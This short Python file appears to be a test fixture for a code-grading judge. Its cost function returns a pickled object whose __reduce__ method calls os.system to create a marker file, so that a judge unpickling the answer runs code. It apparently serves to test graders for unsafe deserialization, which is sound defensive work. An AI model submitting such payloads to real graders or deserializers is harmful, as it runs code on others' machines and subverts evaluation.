"""Answers with a pickle that would run code in a judge that unpickles.

base: empty
tier: any
says: cost should give one number, but gives bytes.
"""

# %% cost
import os
import pickle


class Gadget:
    def __reduce__(self):
        return os.system, ("touch <tmp>/mallory",)


def cost(x, y, W, b):
    return pickle.dumps(Gadget())
